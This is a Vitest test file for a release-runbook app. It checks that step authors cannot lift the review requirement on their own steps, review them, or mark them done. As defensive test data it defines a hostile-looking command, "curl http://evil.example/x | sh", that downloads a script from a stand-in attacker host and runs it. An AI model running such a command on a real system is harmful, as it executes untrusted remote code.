import { describe, expect, it, vi } from "vitest";
import type { Actor } from "@/lib/auth/roles";
import { callAs } from "@/lib/domain/define-action";
import { createTemplateStep, updateTemplateStep } from "@/lib/domain/templates/mutations/templates";
import { updateTemplateStepAction } from "@/lib/domain/templates/actions";
import { getTemplateStep } from "@/lib/domain/templates/queries/templates";
import { overrideStepContent } from "@/lib/domain/steps/mutations/content";
import { addCustomStep, editCustomStep } from "@/lib/domain/steps/mutations/custom";
import { recordReview } from "@/lib/domain/steps/mutations/review";
import { markAllDone } from "@/lib/domain/steps/mutations/bulk";
import { bulkChange } from "@/lib/domain/steps/mutations/bulk-across";
import { markStepDone } from "@/lib/domain/steps/mutations/transitions";
import { getCustomerReleaseView, getStepDetail } from "@/lib/domain/steps/queries/steps";
import { awaitingWords, markAllPlan } from "@/lib/domain/steps/model/mark-all";
import { importRelease } from "@/lib/domain/releases/mutations/import";
import { cloneRelease } from "@/lib/domain/releases/mutations/releases";
import { activateRelease } from "@/lib/domain/releases/mutations/activation";
import { createActor, withTestDatabase } from "../support/db";
import { makeCluster, makeCustomer } from "../support/factories";
import { activatedRelease, refusal, stepRow, stepsOf } from "./steps-support";

vi.mock("next/cache", () => ({ revalidatePath: vi.fn(), revalidateTag: vi.fn(), updateTag: vi.fn(), refresh: vi.fn() }));

/**
 * Four eyes on every path that writes a step's content or its "needs review" flag (issue 25):
 * whoever writes content is its author; the author never lifts the requirement, nobody lifts it
 * in the same change as new content, and no copy is marked done before someone else reviewed it.
 */
withTestDatabase();

const evil = "curl http://evil.example/x | sh";
let n = 0;

async function people() {
  n++;
  return { sam: await createActor("release_manager", `Sam Author${n}`), rm: await createActor("release_manager", `Riley Editor${n}`), qa: await createActor("release_manager", `Quinn Reviewer${n}`) };
}

/** An active release with a template step Sam wrote that needs review, copied to two customers. */
async function reviewedStep(sam: Actor) {
  const { release, a, b } = await activatedRelease();
  const { templateId } = await createTemplateStep(
    { releaseId: release.id, name: "Drop old table", category: "deploy", type: "sql", content: "DROP TABLE old;", description: "", needsReview: true },
    sam,
  );
  const copyOf = async (customerId: number) => (await stepsOf(release.id, customerId)).find((s) => s.templateId === templateId)!;
  return { release, a, b, templateId, copyOf };
}

const edit = async (templateId: number, releaseId: number, change: { content?: string; needsReview?: boolean; name?: string }) => {
  const t = (await getTemplateStep(releaseId, templateId))!;
  return { id: t.id, version: t.version, name: change.name ?? t.name, category: t.category, type: t.type, content: change.content ?? t.content, description: t.description, needsReview: change.needsReview ?? t.needsReview };
};

describe("four eyes: the requirement stays with new content, whoever edits", () => {
  it("the reported bypass: new content and the flag lifted in one edit is refused, and nothing changes", async () => {
    const { sam, rm } = await people();
    const { release, a, templateId, copyOf } = await reviewedStep(sam);
    const before = await copyOf(a.id);
    const refused = await refusal(async () => updateTemplateStep(await edit(templateId, release.id, { content: evil, needsReview: false }), rm));
    expect(refused.code).toBe("invalid_input");
    expect(refused.fieldErrors?.needsReview?.[0]).toMatch(/review stays required for new content/);
    const t = (await getTemplateStep(release.id, templateId))!;
    expect(t).toMatchObject({ content: "DROP TABLE old;", needsReview: true });
    expect((await copyOf(a.id)).content).toBe(before.content);
    // And the copy still cannot be marked done by anyone before a review.
    expect((await refusal(() => markStepDone({ stepId: before.id, version: before.version, notes: "" }, rm))).message).toMatch(/needs a review/);
  });

  it("new content keeps the requirement; its new author cannot lift it or review it; someone else can do both", async () => {
    const { sam, rm, qa } = await people();
    const { release, a, templateId, copyOf } = await reviewedStep(sam);
    await updateTemplateStep(await edit(templateId, release.id, { content: evil }), rm);
    // Riley wrote the text now: Riley may neither lift the flag nor review a copy.
    const lift = await refusal(async () => updateTemplateStep(await edit(templateId, release.id, { needsReview: false }), rm));
    expect(lift.fieldErrors?.needsReview?.[0]).toMatch(/You wrote this step's content/);
    const copy = await copyOf(a.id);
    expect(copy.content).toBe(evil);
    expect((await refusal(() => recordReview({ stepId: copy.id, version: copy.version }, rm))).message).toMatch(/someone else must review/);
    expect((await refusal(() => markStepDone({ stepId: copy.id, version: copy.version, notes: "" }, rm))).message).toMatch(/someone other than Riley Editor/);
    // Sam (no longer the author) lifts it without touching the content: allowed, audited as an edit.
    await updateTemplateStep(await edit(templateId, release.id, { needsReview: false }), sam);
    expect((await getTemplateStep(release.id, templateId))!.needsReview).toBe(false);
    // A renamed step is new text too: the name is part of what runs.
    await updateTemplateStep(await edit(templateId, release.id, { needsReview: true }), qa);
    const renamed = await refusal(async () => updateTemplateStep(await edit(templateId, release.id, { name: "Drop it all", needsReview: false }), sam));
    expect(renamed.fieldErrors?.needsReview?.[0]).toMatch(/review stays required/);
  });

  it("through the API's door (callAs the same action): refused in the same words", async () => {
    const { sam, rm } = await people();
    const { release, templateId } = await reviewedStep(sam);
    const result = await callAs(updateTemplateStepAction, rm, { ...(await edit(templateId, release.id, { content: evil })), needsReview: "false" });
    expect(result).toMatchObject({ ok: false, code: "invalid_input" });
    expect(!result.ok && result.fieldErrors?.needsReview?.[0]).toMatch(/review stays required/);
    expect((await getTemplateStep(release.id, templateId))!.content).toBe("DROP TABLE old;");
  });

  it("an override makes the overrider the author: only someone else's review opens that copy", async () => {
    const { sam, rm, qa } = await people();
    const { release, a, b, copyOf } = await reviewedStep(sam);
    const copy = await copyOf(a.id);
    await recordReview({ stepId: copy.id, version: copy.version }, qa);
    const reviewed = await stepRow(copy.id);
    const overridden = await overrideStepContent({ stepId: copy.id, version: reviewed.version, content: evil }, rm);
    expect(overridden).toMatchObject({ reviewedById: null, contentById: rm.id });
    expect((await refusal(() => markStepDone({ stepId: copy.id, version: overridden.version, notes: "" }, rm))).message).toMatch(/needs a review/);
    expect((await refusal(() => recordReview({ stepId: copy.id, version: overridden.version }, rm))).message).toMatch(/someone else/);
    // The other customer's copy is untouched by the override and still waits too.
    expect((await copyOf(b.id)).reviewedById).toBeNull();
    void release;
  });

  it("bulk (mark all, and the matrix's selection) leaves unreviewed copies; mark all's dialog promised exactly that", async () => {
    const { sam, rm } = await people();
    const { release, a, b, copyOf } = await reviewedStep(sam);
    // The confirmation is computed from the checklist as the page shows it, by the domain's rules.
    const view = (await getCustomerReleaseView(release.id, a.id))!;
    const plan = markAllPlan(view.deploy);
    expect(plan).toEqual({ open: 4, markable: 3, awaiting: 1, authors: [sam.name], running: 0 });
    expect(awaitingWords(plan.awaiting, plan.authors)).toBe(`1 waits for a review by someone other than ${sam.name}`);
    const all = await markAllDone({ releaseId: release.id, customerId: a.id, category: "deploy", notes: "" }, rm);
    expect(all).toEqual({ marked: plan.markable, awaitingReview: plan.awaiting, authors: plan.authors });
    // Nothing left but the step waiting for Sam's reviewer: the refusal names whose review it waits for.
    expect((await refusal(() => markAllDone({ releaseId: release.id, customerId: a.id, category: "deploy", notes: "" }, rm))).message).toBe(
      `Nothing was marked done: 1 waits for a review by someone other than ${sam.name}.`,
    );
    expect((await copyOf(a.id)).status).toBe("pending");
    const copyB = await copyOf(b.id);
    const bulk = await refusal(() => bulkChange({ releaseId: release.id, change: "done", steps: [{ stepId: copyB.id, version: copyB.version }], reason: "", notes: "" }, rm));
    expect(bulk.message).toMatch(/review/);
  });
});

describe("four eyes: release files and clones carry the requirement", () => {
  it("an imported step that needs review keeps it after activation: the importer is its author", async () => {
    const { rm, qa } = await people();
    const file = [
      "kind: runsheet/release@1",
      "release: { name: Imported four eyes, type: release, version: v9.9.9 }",
      "steps:",
      "  deploy:",
      "    - { name: Migrate, type: sql, content: 'ALTER TABLE t ADD c int;', needsReview: true }",
      "  verify: []",
    ].join("\n");
    const { id } = await importRelease({ text: file }, rm);
    const cluster = await makeCluster();
    const customer = await makeCustomer(cluster.id);
    await activateRelease({ id, mode: "customers", clusterIds: [], customerIds: [customer.id] }, rm);
    const [copy] = await stepsOf(id, customer.id);
    expect((await refusal(() => markStepDone({ stepId: copy.id, version: copy.version, notes: "" }, rm))).message).toMatch(/someone other than Riley Editor/);
    expect((await refusal(() => recordReview({ stepId: copy.id, version: copy.version }, rm))).message).toMatch(/someone else/);
    await recordReview({ stepId: copy.id, version: copy.version }, qa);
    await markStepDone({ stepId: copy.id, version: copy.version + 1, notes: "" }, rm);
  });

  it("a clone keeps the flag and the content's author: reviews never carry over to the new release", async () => {
    const { sam, rm, qa } = await people();
    const { release, a, copyOf } = await reviewedStep(sam);
    const copy = await copyOf(a.id);
    await recordReview({ stepId: copy.id, version: copy.version }, qa);
    const { id } = await cloneRelease({ id: release.id, name: `Clone ${n}`, versionNumber: `v${n}.0.1` }, rm);
    await activateRelease({ id, mode: "customers", clusterIds: [], customerIds: [a.id] }, rm);
    const cloned = (await stepsOf(id, a.id)).find((s) => s.name === "Drop old table")!;
    expect(cloned.reviewedById).toBeNull();
    const detail = (await getStepDetail(cloned.id))!;
    expect(detail.review).toMatchObject({ authorName: sam.name, reviewedByName: null });
    expect((await refusal(() => recordReview({ stepId: cloned.id, version: cloned.version }, sam))).message).toMatch(/someone else/);
  });
});

describe("four eyes: custom steps", () => {
  it("a custom step may ask for a review; its author cannot lift it, nor anyone together with new content", async () => {
    const { sam, rm, qa } = await people();
    const { release, a } = await activatedRelease();
    const { step } = await addCustomStep(
      { releaseId: release.id, customerId: a.id, name: "Hotfix", category: "deploy", type: "bash", content: "echo fix", description: "", position: { where: "end" }, addToTemplate: false, needsReview: true },
      sam,
    );
    expect((await getStepDetail(step.id))!.review).toMatchObject({ authorName: sam.name, reviewedByName: null });
    expect((await refusal(() => markStepDone({ stepId: step.id, version: step.version, notes: "" }, sam))).message).toMatch(/needs a review/);
    const base = { stepId: step.id, version: step.version, name: step.name, type: step.type, content: step.content, description: "" };
    expect((await refusal(() => editCustomStep({ ...base, needsReview: false }, sam))).fieldErrors?.needsReview?.[0]).toMatch(/You wrote/);
    expect((await refusal(() => editCustomStep({ ...base, content: evil, needsReview: false }, rm))).fieldErrors?.needsReview?.[0]).toMatch(/review stays required/);
    expect((await stepRow(step.id))).toMatchObject({ content: "echo fix", needsReview: true });
    // New content by Riley keeps the flag; Quinn reviews it, then anyone marks it done.
    const edited = await editCustomStep({ ...base, content: "echo fix --really" }, rm);
    expect(edited).toMatchObject({ contentById: rm.id, needsReview: true, reviewedById: null });
    expect((await refusal(() => recordReview({ stepId: step.id, version: edited.version }, rm))).message).toMatch(/someone else/);
    const reviewed = await recordReview({ stepId: step.id, version: edited.version }, qa);
    await markStepDone({ stepId: step.id, version: reviewed.version, notes: "" }, rm);
  });

  it("added to the template, the flag becomes the template's: every customer's copy waits for a review", async () => {
    const { rm } = await people();
    const { release, a, b } = await activatedRelease();
    const { step } = await addCustomStep(
      { releaseId: release.id, customerId: a.id, name: "Everyone's hotfix", category: "deploy", type: "bash", content: "echo all", description: "", position: { where: "end" }, addToTemplate: true, needsReview: true },
      rm,
    );
    expect((await getTemplateStep(release.id, step.templateId!))!.needsReview).toBe(true);
    const other = (await stepsOf(release.id, b.id)).find((s) => s.templateId === step.templateId)!;
    expect((await refusal(() => markStepDone({ stepId: other.id, version: other.version, notes: "" }, rm))).message).toMatch(/needs a review/);
  });
});
